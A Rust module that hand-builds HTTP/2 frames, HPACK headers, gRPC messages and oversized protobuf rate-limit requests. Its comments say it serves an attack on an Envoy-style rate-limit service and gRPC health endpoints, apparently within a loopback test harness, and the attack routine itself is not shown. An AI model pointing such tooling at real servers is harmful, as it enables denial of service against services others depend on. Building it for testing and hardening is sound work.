//! HTTP/2 frames as bytes, and a connection that tracks only what an attack needs.

use std::collections::HashMap;
use std::io::{self, ErrorKind, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::Duration;

use socket2::{Domain, Socket, Type};

pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
pub const PRIORITY: u8 = 2;
pub const RST_STREAM: u8 = 3;
pub const SETTINGS: u8 = 4;
pub const PING: u8 = 6;
pub const GOAWAY: u8 = 7;
pub const WINDOW_UPDATE: u8 = 8;
pub const CONTINUATION: u8 = 9;

pub const ACK: u8 = 1;
pub const END_STREAM: u8 = 1;
pub const END_HEADERS: u8 = 4;

pub const SHOULD_RATE_LIMIT: &str = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit";
pub const CHECK: &str = "/grpc.health.v1.Health/Check";
pub const WATCH: &str = "/grpc.health.v1.Health/Watch";

/// Identifiers of settings.
pub const INITIAL_WINDOW_SIZE: u16 = 4;

/// A frame.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A SETTINGS frame with one setting.
pub fn settings(identifier: u16, value: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[&identifier.to_be_bytes()[..], &value.to_be_bytes()].concat())
}

/// Header block of a gRPC call, all strings as literals.
pub fn header_block(path: &str, more: &[(&str, &str)]) -> Vec<u8> {
    let usual = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "attack"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ];
    let mut block = Vec::new();
    for (name, value) in usual.iter().chain(more) {
        block.push(0);
        for text in [name, value] {
            put_length(&mut block, text.len());
            block.extend(text.as_bytes());
        }
    }
    block
}

/// Length of an HPACK string: seven bits, and the rest in further bytes of seven.
fn put_length(block: &mut Vec<u8>, length: usize) {
    if length < 127 {
        return block.push(length as u8);
    }
    block.push(127);
    let mut rest = length - 127;
    while rest >= 128 {
        block.push((rest % 128 + 128) as u8);
        rest /= 128;
    }
    block.push(rest as u8);
}

/// A gRPC message with its five-byte head.
pub fn grpc_message(is_compressed: bool, message: &[u8]) -> Vec<u8> {
    let length = u32::try_from(message.len()).expect("a message is short").to_be_bytes();
    [&[u8::from(is_compressed)][..], &length, message].concat()
}

/// A `RateLimitRequest` in protobuf.
pub fn rate_limit_request(domain: &str, descriptors: usize, value: &str) -> Vec<u8> {
    let field = |number: u8, bytes: &[u8]| {
        let mut out = vec![number << 3 | 2];
        let mut length = bytes.len();
        while length >= 128 {
            out.push((length % 128 + 128) as u8);
            length /= 128;
        }
        out.push(length as u8);
        out.extend(bytes);
        out
    };
    let entry = [field(1, b"user"), field(2, value.as_bytes())].concat();
    let descriptor = field(2, &field(1, &entry));
    [field(1, domain.as_bytes()), descriptor.repeat(descriptors)].concat()
}

/// A client connection. Errors mean that the server has closed it.
pub struct Connection {
    stream: TcpStream,
    received: Vec<u8>,
    /// Bytes of DATA that the server accepts now, on the connection and on each stream with updates.
    pub window: i64,
    pub stream_updates: HashMap<u32, i64>,
    pub initial_window: i64,
}

/// A received frame.
pub struct Received {
    pub kind: u8,
    pub flags: u8,
    pub stream: u32,
    pub payload: Vec<u8>,
}

impl Connection {
    /// Connects from a loopback address and sends the preface with `settings` frames.
    pub fn open(from: Ipv4Addr, address: SocketAddr, settings: &[u8]) -> io::Result<Self> {
        let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
        socket.bind(&SocketAddr::from((from, 0)).into())?;
        socket.connect_timeout(&address.into(), Duration::from_secs(5))?;
        let stream = TcpStream::from(socket);
        stream.set_nodelay(true)?;
        stream.set_write_timeout(Some(Duration::from_millis(200)))?;
        let mut this = Self {
            stream,
            received: Vec::new(),
            window: 65_535,
            stream_updates: HashMap::new(),
            initial_window: 65_535,
        };
        this.send(&[b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(SETTINGS, 0, 0, b"")[..], settings].concat())?;
        Ok(this)
    }

    /// Sends bytes. A write that makes no progress for a while is an error of the kind `WouldBlock`.
    pub fn send(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.stream.write_all(bytes)
    }

    /// Reads what has arrived and applies it; waits up to `wait` for the first byte. An error after GOAWAY.
    pub fn receive(&mut self, wait: Duration) -> io::Result<Vec<Received>> {
        let mut buffer = [0; 16 * 1024];
        loop {
            let read = if wait.is_zero() {
                self.stream.set_nonblocking(true)?;
                let read = self.stream.read(&mut buffer);
                self.stream.set_nonblocking(false)?;
                read
            } else {
                self.stream.set_read_timeout(Some(wait))?;
                self.stream.read(&mut buffer)
            };
            match read {
                Ok(0) => return Err(ErrorKind::UnexpectedEof.into()),
                Ok(length) => self.received.extend_from_slice(&buffer[..length]),
                Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                    return Ok(Vec::new());
                }
                Err(error) => return Err(error),
            }
            let frames = self.take_frames()?;
            if !frames.is_empty() {
                return Ok(frames);
            }
        }
    }

    fn take_frames(&mut self) -> io::Result<Vec<Received>> {
        let mut frames = Vec::new();
        let mut start = 0;
        while let Some(&[a, b, c, kind, flags, d, e, f, g]) = self.received[start..].first_chunk() {
            let length = u32::from_be_bytes([0, a, b, c]) as usize;
            let Some(payload) = self.received.get(start + 9..start + 9 + length) else { break };
            let stream = u32::from_be_bytes([d, e, f, g]);
            frames.push(Received { kind, flags, stream, payload: payload.to_vec() });
            start += 9 + length;
        }
        self.received.drain(..start);
        for received in &frames {
            self.apply(received)?;
        }
        Ok(frames)
    }

    fn apply(&mut self, received: &Received) -> io::Result<()> {
        let number = |bytes: &[u8]| i64::from(u32::from_be_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]));
        match received.kind {
            SETTINGS if received.flags & ACK == 0 => {
                for setting in received.payload.chunks_exact(6) {
                    if u16::from_be_bytes([setting[0], setting[1]]) == INITIAL_WINDOW_SIZE {
                        self.initial_window = number(&setting[2..]);
                    }
                }
                self.send(&frame(SETTINGS, ACK, 0, b""))
            }
            PING if received.flags & ACK == 0 => self.send(&frame(PING, ACK, 0, &received.payload)),
            WINDOW_UPDATE if received.stream == 0 => {
                self.window += number(&received.payload);
                Ok(())
            }
            WINDOW_UPDATE => {
                *self.stream_updates.entry(received.stream).or_default() += number(&received.payload);
                Ok(())
            }
            GOAWAY => Err(ErrorKind::ConnectionAborted.into()),
            _ => Ok(()),
        }
    }
}
